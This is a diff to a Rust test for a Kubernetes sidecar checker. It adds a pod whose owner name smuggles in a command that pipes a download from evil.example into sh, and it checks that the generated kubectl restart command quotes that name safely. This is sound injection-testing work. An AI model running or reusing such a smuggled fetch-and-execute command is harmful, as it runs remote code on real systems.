@@ -213,6 +213,7 @@ fn pods_without_their_sidecar_are_listed_with_the_command_that_restarts_them() {
         ordered_pod("DaemonSet", "agent", false),
         ordered_pod("ReplicaSet", "rollout-abc", false),
         ordered_pod("", "bare", false),
+        ordered_pod("StatefulSet", "shop -n dev; curl -s https://evil.example/x | sh #", false),
         disabled,
         terminating,
         stop_only,
@@ -224,7 +225,13 @@ fn pods_without_their_sidecar_are_listed_with_the_command_that_restarts_them() {
     let (code, findings) =
         Cluster { pods: [Cluster::default().pods, pods.to_vec()].concat(), ..Cluster::default() }.problems();
     assert_eq!(code, 1);
+    // The name of an owner can be any text.
     let expected = [
+        (
+            "'StatefulSet/shop -n dev; curl -s https://evil.example/x | sh #'",
+            1,
+            "kubectl rollout restart 'statefulset/shop -n dev; curl -s https://evil.example/x | sh #' -n shop",
+        ),
         ("DaemonSet/agent", 1, "kubectl rollout restart daemonset/agent -n shop"),
         ("Deployment/copied", 1, "kubectl rollout restart deployment/copied -n shop"),
         ("Deployment/web", 2, "kubectl rollout restart deployment/web -n shop"),
